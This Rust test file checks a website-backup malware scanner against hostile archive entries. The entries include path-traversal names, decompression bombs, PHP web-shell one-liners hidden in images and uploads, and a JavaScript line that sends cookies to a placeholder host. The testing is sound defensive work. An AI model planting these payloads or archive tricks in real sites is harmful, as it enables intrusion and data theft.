//! Test bodies shared by the native test binary (`tests/engine/`) and the browser worker
//! tests (`tests/browser_worker.rs`): one body, two targets. They need no files or network.

#![allow(dead_code)]

use site_triage::engine::report::{FileReport, Report, WarningKind};
use site_triage::engine::{self, ErrorKind};

use super::*;

fn status_of<'a>(r: &'a Report, path: &str) -> Option<&'a FileReport> {
    r.files.iter().find(|f| f.path == path)
}

pub fn warnings_of(bytes: &[u8]) -> Vec<(WarningKind, Option<String>)> {
    scan(bytes)
        .unwrap()
        .warnings
        .into_iter()
        .map(|w| (w.kind, w.path))
        .collect()
}

pub fn hostile_names_are_warnings_and_still_scanned() {
    let mut raw = ZipEntry::new("x", b"<?php");
    raw.name = b"site/caf\xe9.php".to_vec();
    raw.flags = 0;
    let bytes = zip(&[
        ZipEntry::new("../../etc/cron.d/evil.php", b"a"),
        ZipEntry::new("/abs/path.php", b"b"),
        ZipEntry::new("C:\\win\\x.php", b"c"),
        ZipEntry::new("site/gpj.\u{202e}php", b"d"),
        raw,
    ]);
    let r = scan(&bytes).unwrap();
    let names: Vec<_> = r
        .warnings
        .iter()
        .filter(|w| w.kind == WarningKind::SuspiciousName)
        .filter_map(|w| w.path.clone())
        .collect();
    assert!(
        names.contains(&"../../etc/cron.d/evil.php".to_string()),
        "{names:?}"
    );
    assert!(names.contains(&"/abs/path.php".to_string()));
    assert!(names.contains(&"C:\\win\\x.php".to_string()));
    assert!(names.iter().any(|n| n.contains('\u{202e}')));
    // exact names come back in the file list
    assert!(status_of(&r, "../../etc/cron.d/evil.php").is_some());
    assert_eq!(r.summary.files, 5);
}

pub fn links_encryption_methods_and_crc_are_entry_warnings() {
    let mut link = ZipEntry::new("site/link", b"/etc/passwd");
    link.symlink = true;
    link.deflate = false;
    let mut enc = ZipEntry::new("site/secret.php", b"x");
    enc.flags |= 1;
    let mut method = ZipEntry::new("site/lzma.bin", b"x");
    method.method_override = Some(14);
    let mut crc = ZipEntry::new("site/bad-crc.php", b"content");
    crc.crc_override = Some(0xdead_beef);
    let bytes = zip(&[
        link,
        enc,
        method,
        crc,
        ZipEntry::new("site/ok.php", b"fine"),
    ]);
    let w = warnings_of(&bytes);
    for (kind, path) in [
        (WarningKind::Symlink, "site/link"),
        (WarningKind::Encrypted, "site/secret.php"),
        (WarningKind::UnsupportedMethod, "site/lzma.bin"),
        (WarningKind::Corrupt, "site/bad-crc.php"),
    ] {
        assert!(
            w.contains(&(kind, Some(path.to_string()))),
            "{kind:?} {path}: {w:?}"
        );
    }
    let r = scan(&bytes).unwrap();
    assert!(status_of(&r, "site/ok.php").is_some());
}

pub fn lying_sizes_and_duplicates_are_caught() {
    let mut short = ZipEntry::new("a/short.php", b"0123456789abcdef");
    short.deflate = false;
    short.size_override = Some(4);
    let mut long = ZipEntry::new("a/long.php", b"0123");
    long.size_override = Some(400);
    let bytes = zip(&[short, long]);
    let w = warnings_of(&bytes);
    assert!(
        w.iter().any(|(_, p)| p.as_deref() == Some("a/short.php")),
        "{w:?}"
    );
    assert!(
        w.iter().any(|(_, p)| p.as_deref() == Some("a/long.php")),
        "{w:?}"
    );

    let dup = zip_files(&[("a/x.php", b"one"), ("a/x.php", b"two")]);
    let r = scan(&dup).unwrap();
    assert!(r
        .warnings
        .iter()
        .any(|w| w.kind == WarningKind::DuplicateName));
    assert_eq!(r.summary.files, 1);
    let dup_tar = tar(&[("a/x.php", b"one"), ("a/x.php", b"two")], true);
    let r = scan(&dup_tar).unwrap();
    assert!(r
        .warnings
        .iter()
        .any(|w| w.kind == WarningKind::DuplicateName));
    assert_eq!(r.summary.files, 1);
}

pub fn shared_data_bomb_entries_are_skipped() {
    // Two central-directory entries pointing at the same local data: the zbsm construction.
    let mut bytes = zip_files(&[("a.txt", b"aaaa"), ("b.txt", b"bbbb")]);
    let cd = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
    bytes[cd + 42..cd + 46].copy_from_slice(&0u32.to_le_bytes());
    let w = warnings_of(&bytes);
    assert!(w.iter().any(|(k, _)| *k == WarningKind::Bomb), "{w:?}");
}

pub fn archive_level_failures_have_clear_messages() {
    let cases: Vec<(&str, Vec<u8>, ErrorKind)> = vec![
        ("empty", vec![], ErrorKind::Empty),
        (
            "text",
            b"-- MySQL dump 10.13\nCREATE TABLE wp_users".to_vec(),
            ErrorKind::NotAnArchive,
        ),
        (
            "rar",
            b"Rar!\x1a\x07\x00rest".to_vec(),
            ErrorKind::UnsupportedFormat,
        ),
        (
            "truncated zip",
            {
                let z = zip_files(&[("a/b.php", &[7u8; 5000])]);
                z[..z.len() / 2].to_vec()
            },
            ErrorKind::Corrupt,
        ),
        (
            "gz not tar",
            {
                let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
                std::io::Write::write_all(&mut e, b"just some text, not a tar header at all")
                    .unwrap();
                e.finish().unwrap()
            },
            ErrorKind::Corrupt,
        ),
    ];
    for (what, bytes, kind) in cases {
        let e = scan(&bytes).unwrap_err();
        assert_eq!(e.kind, kind, "{what}: {}", e.message);
        assert!(
            e.message.len() > 30,
            "{what}: message too terse: {}",
            e.message
        );
    }
}

pub fn truncated_tar_gz_reports_what_it_could_read() {
    let files: Vec<(String, Vec<u8>)> = (0..200)
        .map(|i| (format!("site/f{i}.php"), vec![b'a' + (i % 26) as u8; 3000]))
        .collect();
    let refs = borrowed(&files);
    let full = tar(&refs, true);
    let r = scan(&full[..full.len() * 2 / 3]).unwrap();
    assert!(
        r.warnings.iter().any(|w| w.kind == WarningKind::Truncated),
        "{:?}",
        r.warnings
    );
    assert!(
        r.summary.files > 20 && r.summary.files < 200,
        "{}",
        r.summary.files
    );
}

pub fn plain_tar_is_read() {
    let bytes = tar(
        &[
            ("public_html/index.php", b"<?php"),
            ("public_html/a.css", b"body{}"),
        ],
        false,
    );
    let r = scan(&bytes).unwrap();
    assert_eq!(
        r.archive.format,
        site_triage::engine::report::ArchiveFormat::Tar
    );
    assert_eq!(r.summary.files, 2);
    assert_eq!(r.roots, ["public_html/"]);
}

pub fn ratio_bomb_entry_is_skipped_with_a_warning() {
    let zeros = vec![0u8; 100 << 20];
    let mut e = ZipEntry::new("site/huge.log", &zeros);
    e.deflate = true;
    let bytes = zip(&[e, ZipEntry::new("site/index.php", b"<?php")]);
    assert!(bytes.len() < 1 << 20);
    let r = scan(&bytes).unwrap();
    assert!(
        r.warnings
            .iter()
            .any(|w| w.kind == WarningKind::Bomb && w.path.as_deref() == Some("site/huge.log")),
        "{:?}",
        r.warnings
    );
    assert!(status_of(&r, "site/index.php").is_some());
}

/// A tar.gz bomb: one entry of 2 GiB of zeros, about 2 MB compressed. The scan ends with the
/// archive's "bomb" error, and it stops in the middle of that entry, as soon as the stream
/// has inflated past the limit: most of the archive is never read (inflating all of a
/// bigger bomb would keep the tab busy for minutes).
pub fn tar_gz_bomb_stops_mid_entry() {
    use std::io::Read;
    let size = 2u64 << 30;
    // The default level: zlib's fastest one squeezes zeros only ~100:1, a real bomb ~1000:1.
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    let mut h = tar::Header::new_gnu();
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(1_709_634_030);
    h.set_entry_type(tar::EntryType::Regular);
    b.append_data(
        &mut h,
        "public_html/error_log",
        std::io::repeat(0).take(size),
    )
    .unwrap();
    let bytes = b.into_inner().unwrap().finish().unwrap();
    assert!(bytes.len() < 4 << 20, "{} bytes", bytes.len());
    let read = std::rc::Rc::new(std::cell::Cell::new(0u64));
    let reader = Counting {
        inner: std::io::Cursor::new(bytes.as_slice()),
        read: read.clone(),
    };
    let err = engine::scan(
        reader,
        bytes.len() as u64,
        "backup.tar.gz",
        &mut bundled,
        &[],
        &mut Silent,
    )
    .unwrap_err();
    assert_eq!(err.kind, ErrorKind::Bomb, "{}", err.message);
    assert!(
        err.message.contains("decompression bomb"),
        "{}",
        err.message
    );
    assert!(
        read.get() < bytes.len() as u64 * 3 / 4,
        "read {} of {} bytes",
        read.get(),
        bytes.len()
    );
}

/// A reader that counts the bytes read through it.
struct Counting<R> {
    inner: R,
    read: std::rc::Rc<std::cell::Cell<u64>>,
}

impl<R: std::io::Read> std::io::Read for Counting<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read.set(self.read.get() + n as u64);
        Ok(n)
    }
}

impl<R: std::io::Seek> std::io::Seek for Counting<R> {
    fn seek(&mut self, to: std::io::SeekFrom) -> std::io::Result<u64> {
        self.inner.seek(to)
    }
}

/// A nested bomb (42.zip style): archives inside the backup are files like any other: hashed,
/// never unpacked, so ten 100 MB bombs inside cost only their compressed bytes.
pub fn nested_archives_are_not_unpacked() {
    let zeros = vec![0u8; 100 << 20];
    let inner = zip(&[ZipEntry::new("zeros.log", &zeros)]);
    assert!(inner.len() < 1 << 20);
    let layer: Vec<ZipEntry> = (0..10)
        .map(|i| ZipEntry::new(&format!("part{i}.zip"), &inner))
        .collect();
    let middle = zip(&layer);
    let tgz = tar(&[("zeros.log", &zeros)], true);
    let bytes = zip(&[
        ZipEntry::new("public_html/wp-content/uploads/old-site.zip", &middle),
        ZipEntry::new("public_html/backup/db.tar.gz", &tgz),
        ZipEntry::new("public_html/index.php", b"<?php echo 1;"),
    ]);
    let r = scan(&bytes).unwrap();
    assert_eq!(r.summary.files, 3);
    assert!(
        !r.warnings.iter().any(|w| w.kind == WarningKind::Bomb),
        "{:?}",
        r.warnings
    );
    let f = status_of(&r, "public_html/wp-content/uploads/old-site.zip").unwrap();
    assert_eq!(f.size, middle.len() as u64);
    assert_eq!(
        f.sha256,
        engine::read::hash::hex(&engine::read::hash::sha256(&middle))
    );
    assert!(r.files.iter().all(|f| !f.path.contains("zeros.log")));
}

pub fn zip64_entries_are_read() {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().large_file(true);
    w.start_file("public_html/index.php", opts).unwrap();
    w.write_all(b"<?php echo 1;").unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let r = scan(&bytes).unwrap();
    assert_eq!(r.summary.files, 1);
    assert_eq!(
        status_of(&r, "public_html/index.php").unwrap().sha256,
        engine::read::hash::hex(&engine::read::hash::sha256(b"<?php echo 1;"))
    );
}
pub fn bzip2_entries_are_read() {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Bzip2);
    w.start_file("public_html/style.css", opts).unwrap();
    w.write_all(&b"body { color: red }\n".repeat(100)).unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let r = scan(&bytes).unwrap();
    assert!(r.warnings.is_empty(), "{:?}", r.warnings);
    let f = status_of(&r, "public_html/style.css").unwrap();
    assert_eq!(
        f.sha256,
        engine::read::hash::hex(&engine::read::hash::sha256(
            &b"body { color: red }\n".repeat(100)
        ))
    );
}

/// A representative set of the defanged samples (compiled in, so it also runs in a browser
/// worker): each must be flagged with the expected rule; the dump's rogue admin is found.
pub fn detection_works_on_representative_samples() {
    macro_rules! sample {
        ($name:literal, $rule:literal) => {
            (
                $name,
                &include_bytes!(concat!(
                    env!("CARGO_MANIFEST_DIR"),
                    "/tests/data/malware/",
                    $name
                ))[..],
                $rule,
            )
        };
    }
    let cases: [(&str, &[u8], &str); 8] = [
        sample!("chopper.php", "php-eval-request"),
        sample!("obf-three-layers.php", "php-exec-request"),
        sample!("obf-xor.php", "php-exec-request"),
        sample!("obf-chr.php", "php-exec-request"),
        sample!("gif-polyglot.gif", "php-in-image"),
        sample!(
            "htaccess-image-php/.htaccess",
            "htaccess-php-handler-for-media"
        ),
        sample!("skimmer.js", "js-card-skimmer"),
        sample!("hidden-iframe.html", "html-hidden-iframe"),
    ];
    let dump: &[u8] = include_bytes!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/sample/database.sql"
    ));
    let mut files: Vec<(String, &[u8])> = cases
        .iter()
        .map(|(n, d, _)| (format!("site/{n}"), *d))
        .collect();
    files.push(("mysql/db.sql".into(), dump));
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, d)| (n.as_str(), *d)).collect();
    let r = scan(&zip_files(&refs)).unwrap();
    for (name, _, rule) in cases {
        let f = status_of(&r, &format!("site/{name}")).unwrap();
        assert!(
            f.findings.iter().any(|x| x.rule == rule),
            "{name}: {:?}",
            f.findings.iter().map(|x| &x.rule).collect::<Vec<_>>()
        );
        assert_ne!(
            f.verdict,
            site_triage::engine::report::Verdict::Clean,
            "{name}"
        );
    }
    assert!(r
        .accounts
        .iter()
        .any(|a| a.login == "wp_update_service" && !a.flags.is_empty()));
}

/// Injections appended to the end of big files are seen: only the head and a rolling tail
/// of a file go through the rules, and the tail must be exactly its last bytes.
pub fn injections_at_the_end_of_big_files_are_seen() {
    let mut js = b"/* big bundle */\n".to_vec();
    while js.len() < (5 << 20) + 12_345 {
        js.extend_from_slice(b"var a = [1, 2, 3]; function f(x) { return x + 1; }\n");
    }
    js.extend_from_slice(
        b"if(0){new Image().src='https://c.example.invalid/?c='+document.cookie;}\n",
    );
    let mut img = b"\xff\xd8\xff\xe0".to_vec();
    img.extend((0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 | 0x80));
    img.extend_from_slice(b"<?php __halt_compiler(); system($_GET['c']);");
    let r = scan(&zip_files(&[
        ("site/bundle.js", &js),
        ("site/photo.jpg", &img),
    ]))
    .unwrap();
    let rules = |p: &str| {
        status_of(&r, p)
            .map(|f| {
                f.findings
                    .iter()
                    .map(|x| x.rule.clone())
                    .collect::<Vec<_>>()
            })
            .unwrap_or_default()
    };
    assert!(
        rules("site/bundle.js").contains(&"js-cookie-exfiltration".to_string()),
        "{:?}",
        rules("site/bundle.js")
    );
    assert!(
        rules("site/photo.jpg").contains(&"php-in-image".to_string()),
        "{:?}",
        rules("site/photo.jpg")
    );
}

/// Entries for the share tests: hostile names, a version file, malware, a dump, media of
/// varied sizes, a bad CRC and a duplicate name.
fn share_test_entries() -> Vec<ZipEntry> {
    let mut entries = vec![
        ZipEntry::new("../../etc/cron.d/evil.php", b"<?php echo 1;"),
        ZipEntry::new("public_html/wp-includes/version.php", b"<?php\n$wp_version = '6.4.2';\n"),
        ZipEntry::new("public_html/index.php", b"<?php require 'wp-blog-header.php';"),
        ZipEntry::new(
            "public_html/wp-content/uploads/x.php",
            b"<?php @eval(base64_decode($_POST['c'])); ?>",
        ),
        ZipEntry::new(
            "backup/db.sql",
            b"INSERT INTO `wp_users` VALUES (1,'admin','$P$Bxx','admin','a@example.test','','2024-03-05 10:00:00','',0,'admin');\n",
        ),
    ];
    // Media of varied sizes, stored, so that byte ranges and entry counts differ a lot.
    for i in 0..60u32 {
        let mut e = ZipEntry::new(
            &format!("public_html/wp-content/uploads/2024/img-{i}.jpg"),
            &vec![(i % 251) as u8; 1000 + (i as usize * 7919) % 60_000],
        );
        e.deflate = false;
        entries.push(e);
    }
    let mut crc = ZipEntry::new("public_html/bad-crc.php", b"content");
    crc.crc_override = Some(0xdead_beef);
    entries.push(crc);
    entries.push(ZipEntry::new(
        "public_html/index.php",
        b"<?php // second copy",
    ));
    entries
}

/// Several workers each reading a share of the archive and merging their parts give the
/// same report as one pass: same files in the same order, same findings, warnings, accounts.
pub fn shares_merge_into_the_same_report() {
    let bytes = zip(&share_test_entries());

    // Each of two shares really reads part of the files.
    for index in 0..2 {
        let part = engine::collect::collect_share(
            std::io::Cursor::new(&bytes),
            bytes.len() as u64,
            engine::read::Share::new(index, 2),
            &mut Silent,
        )
        .unwrap();
        assert!(
            part.files.len() > 5,
            "share {index} has {} files",
            part.files.len()
        );
    }
    let whole = serde_json::to_value(scan(&bytes).unwrap()).unwrap();
    for count in [1, 2, 3, 4, 7] {
        let merged = serde_json::to_value(scan_in_shares(&bytes, count).unwrap()).unwrap();
        assert_eq!(whole, merged, "{count} shares");
    }
    // Stored media hashed afterwards from the archive bytes (the browser's WebCrypto path):
    // the same report, PHP appended to an image still found.
    let mut with_media = share_test_entries();
    let mut image = b"\xff\xd8\xff\xe0".to_vec();
    image.extend(std::iter::repeat_n(7u8, 300_000));
    image.extend_from_slice(b"<?php @eval($_POST['x']); ?>");
    let mut e = ZipEntry::new("public_html/wp-content/uploads/2024/photo.jpg", &image);
    e.deflate = false;
    with_media.push(e);
    let bytes = zip(&with_media);
    let whole = scan(&bytes).unwrap();
    assert!(whole
        .files
        .iter()
        .any(|f| f.path.ends_with("photo.jpg") && !f.findings.is_empty()));
    let whole = serde_json::to_value(whole).unwrap();
    for count in [1, 2, 3] {
        let later = scan_in_shares_hashing_later(&bytes, count, Some(10_000)).unwrap();
        assert_eq!(
            whole,
            serde_json::to_value(later).unwrap(),
            "{count} shares, hashed later"
        );
    }
    // Walked in steps (the browser worker returns to its event loop between them): the
    // same report for any budget; a budget of one byte takes one entry per step.
    let files = whole["summary"]["files"].as_u64().unwrap() as usize;
    for (budget, count) in [(1u64, 1u32), (1, 3), (50_000, 2), (u64::MAX, 2)] {
        let (stepped, steps) = scan_in_steps(&bytes, count, Some(10_000), budget).unwrap();
        assert_eq!(
            whole,
            serde_json::to_value(stepped).unwrap(),
            "steps of {budget} bytes, {count} shares"
        );
        if budget == 1 {
            assert!(steps >= files, "{steps} steps for {files} files");
        } else if budget == u64::MAX {
            assert_eq!(steps, count as usize);
        }
    }
    // tar and tar.gz in steps too: each step starts a fresh tar reader at the next header.
    // Hex noise, so that the tar.gz is about as big as the tar (gzip reads ahead 32 KB).
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let files: Vec<(String, Vec<u8>)> = (0..40)
        .map(|i| {
            let noise: String = (0..(i * 97 % 700 + 50))
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    format!("{x:016x}")
                })
                .collect();
            (
                format!("site/dir{}/file-{i}.php", i % 3),
                format!("<?php echo {i}; // {noise}").into_bytes(),
            )
        })
        .chain([(
            "site/up/x.php".to_string(),
            b"<?php eval($_POST[1]);".to_vec(),
        )])
        .collect();
    let refs = borrowed(&files);
    for gz in [false, true] {
        let bytes = tar(&refs, gz);
        let whole = serde_json::to_value(scan(&bytes).unwrap()).unwrap();
        for budget in [1u64, 3_000, 20_000] {
            let (stepped, steps) = scan_in_steps(&bytes, 1, None, budget).unwrap();
            assert_eq!(
                whole,
                serde_json::to_value(stepped).unwrap(),
                "tar (gz: {gz}) in steps of {budget} bytes"
            );
            if budget == 1 && !gz {
                assert!(
                    steps >= files.len(),
                    "{steps} steps for {} files",
                    files.len()
                );
            }
            assert!(
                steps > 1,
                "tar (gz: {gz}) in one step for a budget of {budget}"
            );
        }
    }
    // Cut off anywhere: in steps as in one pass, the files before the cut and a warning.
    let bytes = tar(&refs, false);
    for cut in [bytes.len() / 3, bytes.len() / 2 + 700, bytes.len() - 1500] {
        let cut_off = &bytes[..cut];
        let whole = scan(cut_off).unwrap();
        let (stepped, _) = scan_in_steps(cut_off, 1, None, 1).unwrap();
        assert_eq!(stepped.summary.files, whole.summary.files, "cut at {cut}");
        for r in [&whole, &stepped] {
            assert!(
                r.warnings.iter().any(|w| w.kind == WarningKind::Truncated),
                "cut at {cut}: {:?}",
                r.warnings
            );
        }
    }
    // tar.gz can only be read from the start: the first share reads it all.
    let tgz = tar(
        &[("site/a.php", b"<?php echo 1;"), ("site/b.txt", b"b")],
        true,
    );
    let whole = serde_json::to_value(scan(&tgz).unwrap()).unwrap();
    let merged = serde_json::to_value(scan_in_shares(&tgz, 3).unwrap()).unwrap();
    assert_eq!(whole, merged);
    // An archive-level failure is the same error in every share.
    assert!(scan_in_shares(b"not an archive at all", 2).is_err());
}
